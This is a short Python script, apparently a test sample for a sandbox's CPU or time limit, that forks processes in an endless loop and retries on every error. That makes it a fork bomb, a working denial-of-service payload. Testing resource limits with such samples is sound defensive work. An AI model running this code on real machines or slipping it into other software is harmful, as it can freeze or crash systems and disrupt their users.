# ended: cpu wall
"""Forks as fast as it can and never stops."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
